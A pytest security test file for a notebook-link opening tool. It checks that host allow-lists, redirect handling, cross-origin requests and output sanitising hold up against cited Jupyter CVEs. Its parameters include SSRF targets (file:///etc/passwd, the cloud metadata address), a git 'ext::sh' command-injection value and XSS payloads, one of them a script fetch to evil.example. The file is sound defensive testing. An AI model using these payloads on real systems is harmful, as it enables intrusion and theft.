"""Hosts and stores that nobody lists, hosts that send one elsewhere, and doors of the server."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sm_onboard import aws
from sm_onboard.aws import Aws
from sm_onboard.errors import OnboardError
from sm_onboard.links.coordinates import form
from tests.contract.test_http import ask, shape, sign_in
from tests.gitserver import Fault, make_repository
from tests.links.opening.lab import FILES, LAB, NOTEBOOK, PATH, Lab, lab, notebook
from tests.links.opening.test_share import CHANGED
from tests.localsagemaker import SageMaker

__all__ = ["ask", "sign_in"]


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Lab]:
    with lab(tmp_path) as made:
        yield made


def requests(here: Lab) -> tuple[int, int]:
    return here.server.snapshot("churn").requests, here.other.snapshot("churn").requests


def test_a_foreign_host_hears_nothing_before_the_person_says_so(here: Lab) -> None:
    """nbgitpuller: an address that was opened began to clone."""
    before = here.outside_cache()
    shown = here.begin(here.git_link())
    assert shown.state == "asks"
    for _ in range(3):
        here.openings.get(shown.id)
    for host in ("evil.example", ""):
        with pytest.raises(OnboardError):
            here.openings.fetch(shown.id, host)
    with pytest.raises(OnboardError):
        here.openings.choose(shown.id, 0, "beside")
    here.openings.drop(shown.id)
    assert requests(here) == (0, 0)
    assert here.outside_cache() == before
    assert not here.cache.exists()


def test_a_host_that_begins_or_ends_like_a_listed_one(here: Lab) -> None:
    """jupyter-server CVE-2026-40110: an origin that only begins like an allowed one."""
    here.says(hosts=["github.com", "*.acme.com"])
    for host in (
        *(
            "github.com.evil.example",
            "evilgithub.com",
            "github.co",
            "acme.com",
            "xacme.com",
            "evil-acme.com",
        ),
        *("acme.com.evil.example", "a.acme.com.evil", "github.com-x.example"),
    ):
        trust = here.begin(here.git_link(repository=f"https://{host}/acme/churn")).trust
        assert not trust.listed, host
        assert trust.asked == host
    for host in ("GitHub.com", "git.acme.com", "a.b.acme.com"):
        here.server.faults["*"] = Fault.hang()
        allowed = here.openings._reader.allowed()
        from sm_onboard.links.allowed import place_of

        assert allowed.why(place_of(f"https://{host}/x")), host


@pytest.mark.parametrize("listed", [True, False])
def test_a_redirect_to_another_host_is_not_followed(here: Lab, listed: bool) -> None:
    """jupyter-server CVE-2023-39968: to be sent on to where nobody meant to go."""
    make_repository(here.other.root, "churn", FILES)
    if listed:
        here.clone()
    link = here.git_link(here.team.commit({PATH: notebook("new")}))
    here.server.faults["churn"] = Fault.redirect(here.other.address)
    here.server.reset_counts()
    shown = here.begin(link)
    if not listed:
        here.openings.fetch(shown.id, shown.trust.asked)
    failed = here.until(shown.id)
    assert failed.problem
    assert failed.problem.code == "links.moved_elsewhere"
    for port in (here.server.port, here.other.port):
        assert f"127.0.0.1:{port}/churn" in failed.problem.message
    asked, elsewhere = requests(here)
    assert asked > 0
    assert elsewhere == 0


@pytest.mark.parametrize(
    "target",
    [
        "file:///etc/passwd#",
        "ftp://127.0.0.1/x#",
        "http://169.254.169.254/latest/meta-data?",
        "https://u:s3cret@evil.example",
        "ext::sh -c touch%20/tmp/pwned",
        "//evil.example",
        "gopher://evil.example/x",
    ],
)
def test_a_redirect_to_what_is_no_repository(here: Lab, target: str) -> None:
    here.clone()
    link = here.git_link(here.team.commit({PATH: notebook("new")}))
    here.server.faults["churn"] = Fault.redirect(target)
    shown = here.look(link)
    assert shown.problem
    assert shown.problem.code in ("links.moved_elsewhere", "links.moved")
    assert "s3cret" not in str(shown.problem)


def test_a_redirect_in_a_circle_ends(here: Lab) -> None:
    here.clone()
    link = here.git_link(here.team.commit({PATH: notebook("new")}))
    here.server.faults["churn"] = Fault.redirect(here.server.address)
    assert here.failed(link) in ("links.moved", "links.moved_elsewhere")


def test_a_redirect_once_the_copy_is_made(here: Lab) -> None:
    """Between preview and choice the host begins to send people elsewhere."""
    make_repository(here.other.root, "churn", FILES)
    shown = here.begin(here.git_link())
    here.openings.fetch(shown.id, shown.trust.asked)
    ready = here.until(shown.id)
    here.server.faults["churn"] = Fault.redirect(here.other.address)
    before = here.outside_cache()
    assert here.choose(ready).state == "failed"
    assert requests(here)[1] == 0
    assert here.outside_cache().keys() == before.keys()


def test_a_shares_repository_is_not_asked_before_the_choice(here: Lab) -> None:
    digest = here.on_base({PATH: CHANGED}, url=here.other.url("churn")).put(here.store)
    shown = here.ready(here.share_link(digest))
    assert requests(here) == (0, 0)
    assert shown.preview
    assert f"127.0.0.1:{here.other.port}, which your team's file does not name" in str(
        shown.preview.warnings
    )


def test_a_host_that_sends_without_end(here: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    from sm_onboard.links.opening import cache

    monkeypatch.setattr(cache.bounded.__wrapped__, "__defaults__", (200_000,))  # type: ignore[attr-defined]
    here.team.commit({"big.bin": __import__("random").Random(1).randbytes(20 << 20)}, "Big")
    link = here.git_link(path="big.bin")
    here.server.faults["churn"] = Fault.slow(rate=2_000_000)
    shown = here.begin(link)
    here.openings.fetch(shown.id, shown.trust.asked)
    failed = here.until(shown.id, 60)
    assert failed.problem
    assert failed.problem.code == "links.too_much"


def test_an_alias_that_is_not_listed_asks_no_store(
    tmp_path: Path, sagemaker: SageMaker, monkeypatch: pytest.MonkeyPatch
) -> None:
    environ = sagemaker.environment()
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    made = Aws()
    monkeypatch.setattr(aws, "default", lambda: made)
    client = sagemaker.client("s3")
    where = {"LocationConstraint": client.meta.region_name}
    client.create_bucket(Bucket="acme-studio", CreateBucketConfiguration=where)
    with lab(tmp_path, environ=environ) as here:
        digest = here.on_base({PATH: CHANGED}).put(here.store)
        data = (here.store / digest[:2] / f"{digest}.zip").read_bytes()
        key = f"shares/{digest[:2]}/{digest}.zip"
        client.put_object(Bucket="acme-studio", Key=key, Body=data)
        here.config.write_text(
            "version: 1\nlinks: {stores: {team: 's3://acme-studio/shares'}, hosts: []}\n"
        )
        sagemaker.control.clear_log()
        assert here.failed(here.share_link(digest, store="other")) == "links.store_unknown"
        assert sagemaker.control.log()["counts"] == {}
        here.clone()
        before = here.outside_cache()
        shown = here.ready(here.share_link(digest))
        assert here.outside_cache() == before
        assert set(sagemaker.control.log()["counts"]) == {"s3:GetObject"}
        assert shown.preview
        assert (Path(here.choose(shown).opened.place) / PATH).read_bytes() == CHANGED  # type: ignore[union-attr]


OUTPUTS = [
    {"output_type": "display_data", "metadata": {}, "data": {media: evil}}
    for media, evil in (
        ("text/html", "<script>fetch('//evil.example')</script>"),
        ("text/html", '<a data-commandlinker-command="terminal:create-new">x</a>'),
        ("text/html", '<form name=body><input name=attributes id="jp-main">'),
        ("image/svg+xml", "<svg onload=alert(1)>"),
        ("application/javascript", "alert(1)"),
        ("text/markdown", "[x](javascript:alert(1)) <img src=x onerror=alert(1)>"),
        ("text/latex", r"\href{javascript:alert(1)}{x}"),
        ("application/vnd.jupyter.widget-view+json", '{"model_id": "x"}'),
        ("image/png", "bm90IGEgcGljdHVyZQ=="),
    )
]


def test_html_and_scripts_of_outputs_do_not_leave_the_server(here: Lab) -> None:
    """JupyterLab CVE-2026-42557 (GHSA-mqcg-5x36-vfcg: command linker), CVE-2026-40171
    (GHSA-rch3-82jr-f9w9), CVE-2024-22420 (Markdown), CVE-2021-32797, GHSA-9q39-rmj3-p4r2 (DOM
    clobbering); nbconvert's pages of jupyter-server."""
    evil = notebook("x = 1", "# <img src=x onerror=alert(1)>", outputs=OUTPUTS)
    tip = here.team.commit({PATH: evil}, "Evil")
    here.clone()
    shown = here.ready(here.git_link(tip))
    assert shown.preview
    assert shown.preview.notebook
    code, words = shown.preview.notebook.cells
    kinds = [(output.kind, output.media) for output in code.outputs]
    assert kinds == [
        *[("other", "text/html")] * 3,
        ("other", "image/svg+xml"),
        ("other", "application/javascript"),
        ("text", "text/markdown"),
        ("text", "text/latex"),
        ("other", "application/vnd.jupyter.widget-view+json"),
        ("other", "image/png"),
    ]
    others = [output for output in code.outputs if output.kind == "other"]
    assert not any(output.text or output.base64 for output in others)
    # Markdown is given as it is written, as a source: whoever shows it shows text.
    assert words.kind == "markdown"


def test_the_copy_opens_untrusted(here: Lab) -> None:
    """CVE-2021-32797: a notebook of somebody else's is not trusted for having been opened."""
    pytest.importorskip("nbformat")
    import nbformat
    from nbformat.sign import NotebookNotary

    here.clone()
    copy = here.opened(here.git_link())
    notary = NotebookNotary(data_dir=str(here.folder))
    found = nbformat.reads((copy / PATH).read_text(), as_version=4)
    assert not notary.check_signature(found)
    assert (copy / PATH).read_bytes() == NOTEBOOK


async def test_a_post_from_another_site(
    here: Lab, ask: Any, sign_in: Any, jp_serverapp: Any
) -> None:
    """JupyterHub CVE-2026-40864 (accept-share), jupyter-server CVE-2026-40110 (origins)."""
    from tests.contract.test_http import _header

    cookies = await sign_in()
    signed_in = {"Authorization": "", "Cookie": _header(cookies)}
    body = {"link": form(here.git_link(), LAB)}
    for more in (
        {},
        {"Origin": "https://evil.example"},
        {"Origin": "http://127.0.0.1.evil.example", "Referer": "http://127.0.0.1.evil.example/"},
        {"Origin": "null", "Content-Type": "text/plain"},
    ):
        response = await ask("POST", "links/openings", body, headers={**signed_in, **more})
        assert response.code in (403, 404)  # 404: jupyter_server knows another origin by itself
        if "Origin" not in more:
            assert shape(response)["code"] == "http.xsrf"
    right = {**signed_in, "X-XSRFToken": cookies["_xsrf"], "Origin": "https://evil.example"}
    assert (await ask("POST", "links/openings", body, headers=right)).code in (403, 404)
    for method in ("GET", "HEAD"):
        response = await ask(method, f"links/openings?link={body['link']}", headers=signed_in)
        assert response.code in (404, 405)
    assert requests(here) == (0, 0)


async def test_over_http(here: Lab, ask: Any) -> None:
    """What comes back is JSON and leads nowhere: no redirect, no page (nbconvert's stored XSS)."""
    text = form(here.git_link(note="<script>alert(1)</script>"), LAB)
    response = await ask("POST", "links/openings", {"link": text})
    assert response.code == 202
    assert response.headers["Content-Type"] == "application/json"
    assert "Location" not in response.headers
    shown = json.loads(response.body)
    assert shown["state"] == "asks"
    id = shown["id"]
    assert (await ask("GET", f"links/openings/{id}")).code == 200
    refused = await ask("POST", f"links/openings/{id}/fetch", {"host": "evil.example"})
    assert (refused.code, shape(refused)["code"]) == (400, "links.other_host")
    refused = await ask("POST", f"links/openings/{id}/open", {"looked": 0, "how": "beside"})
    assert (refused.code, shape(refused)["code"]) == (409, "links.not_ready")
    assert (await ask("DELETE", f"links/openings/{id}")).code == 200
    for odd in ("x" * 100_000, "", "\0", "javascript:alert(1)", "https://h/lab?smo=git"):
        refused = await ask("POST", "links/openings", {"link": odd})
        assert refused.code == 400
        assert shape(refused)["code"].startswith("links.")
    assert requests(here) == (0, 0)
